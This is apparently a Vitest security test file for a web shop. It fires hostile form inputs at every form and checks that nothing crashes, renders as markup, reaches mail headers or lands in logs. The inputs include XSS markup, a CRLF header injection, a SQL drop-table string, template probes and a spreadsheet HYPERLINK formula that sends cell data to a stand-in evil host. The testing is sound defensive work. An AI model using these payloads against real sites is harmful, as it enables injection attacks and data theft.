import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { log } from '../kit/log.ts';
import { type AttackedShop, openAttackedShop, origin, urlencoded } from '../testing/attacked-shop.ts';

let attacked: AttackedShop;

beforeAll(async () => {
  attacked = await openAttackedShop();
}, 120_000);
afterAll(() => attacked?.shop.close());

const headers = { origin, 'content-type': urlencoded };
const markup = '"><img src=x onerror=alert(1)><script>alert(2)</script>';

/** As a form carries it: what has no letter of its own is written as bytes. */
const hostile: Readonly<Record<string, string>> = {
  markup: encodeURIComponent(markup),
  'markup in an address': encodeURIComponent(`a@"><img src=x onerror=alert(1)>.example`),
  long: 'x'.repeat(19_000),
  'long in letters of four bytes': encodeURIComponent('🦷'.repeat(2_000)),
  'zero bytes': 'a%00b%00',
  'a change of direction': encodeURIComponent('a\u202eb\u2066c\u200f'),
  'a header': encodeURIComponent('a@b.example\r\nx-injected: yes\r\n\r\nbody'),
  'a formula': encodeURIComponent('=HYPERLINK("http://evil.example/?"&A1,"Invoice")'),
  emoji: encodeURIComponent('👩🏽‍⚕️🦷'),
  'letters on letters': encodeURIComponent(`a${'\u0301'.repeat(60)}`),
  'half a letter': '%ED%A0%80%ED%BF%BF%FF%C3',
  'a template': '%24%7B7*7%7D%7B%7B7*7%7D%7D%3C%25=7*7%25%3E',
  SQL: encodeURIComponent(`'; drop table person; --`),
  'a prototype': encodeURIComponent('__proto__'),
  'a number': '999999999999999999999',
};

test('no field of any form takes the shop down, runs as markup, reaches a mail’s head, or lands in the log', async () => {
  const { shop, forms, send, eva, signIn } = attacked;
  const logged = (['info', 'warn', 'error'] as const).map((level) => vi.spyOn(log, level));
  const broken: string[] = [];
  let tried = 0;
  for (const { action, values, written } of forms) {
    for (const name of [...written, ...Object.keys(values).filter((one) => !written.includes(one))])
      for (const [kind, text] of Object.entries(hostile)) {
        const others = new URLSearchParams({ ...values });
        others.delete(name);
        const body = `${others}&${encodeURIComponent(name)}=${text}`;
        const answer = await send(eva, { method: 'POST', path: action, body, headers });
        tried += 1;
        if (answer.status >= 500) broken.push(`${action} ${name} ${kind}: ${answer.status}`);
        if (/<img src=x|<script/u.test(answer.text)) broken.push(`${action} ${name} ${kind}: markup`);
      }
    if (/logga-ut|radera|begransa/u.test(action)) await signIn();
  }
  expect(broken).toEqual([]);
  expect(tried).toBeGreaterThan(500);
  await signIn();
  for (const { path, method } of attacked.routes) {
    if (method !== 'GET' || /\.(?:pdf|json|css|svg)$/u.test(path)) continue;
    expect([path, /<img src=x|<script/u.test((await send(eva, { path })).text)]).toEqual([path, false]);
  }
  for (const { parsed } of await shop.standIn.list()) {
    expect(parsed.html === false ? '' : parsed.html).not.toMatch(/<img src=x|<script/u);
    expect(parsed.headers.has('x-injected')).toBe(false);
  }
  const lines = JSON.stringify(logged.flatMap(({ mock }) => mock.calls));
  expect(lines.length).toBeGreaterThan(1000);
  for (const text of ['@', 'alert(', 'evil.example', 'Havet', 'Kajen', ...attacked.evas])
    expect(lines).not.toContain(text);
  vi.restoreAllMocks();
}, 240_000);

test('a megabyte in any field of any form is refused with a page, and changes nothing', async () => {
  const { forms, send, eva, rows } = attacked;
  const before = await rows();
  for (const { action, values } of forms)
    for (const name of Object.keys(values)) {
      const parts = [
        `${encodeURIComponent(name)}=a@${'a.'.repeat(500_000)}@`,
        String(new URLSearchParams(values)),
      ];
      const answer = await send(eva, { method: 'POST', path: action, body: parts.join('&'), headers });
      expect([action, name, answer.status]).toEqual([action, name, 413]);
      expect(answer.text).toMatch(/För mycket på en gång|Too much at once/u);
    }
  expect(await rows()).toEqual(before);
}, 120_000);

test('too many fields, or parts, or a field that no form has so long, are refused with a page', async () => {
  const { send, eva } = attacked;
  const path = '/en/newsletter';
  const multipart = { origin, 'content-type': 'multipart/form-data; boundary=b' };
  const part = '--b\r\ncontent-disposition: form-data; name="a"\r\n\r\nx\r\n';
  for (const [body, type] of [
    ['a=1&'.repeat(400), headers],
    [`email=${'x'.repeat(20_001)}`, headers],
    [`${'n'.repeat(200)}=1`, headers],
    [`${part.repeat(400)}--b--\r\n`, multipart],
    [`${part.replace('x', 'x'.repeat(70_000))}--b--\r\n`, multipart],
  ] as const) {
    const answer = await send(eva, { method: 'POST', path, body, headers: type });
    expect(answer.status).toBe(413);
    expect(answer.text).toContain('Too much at once');
  }
});
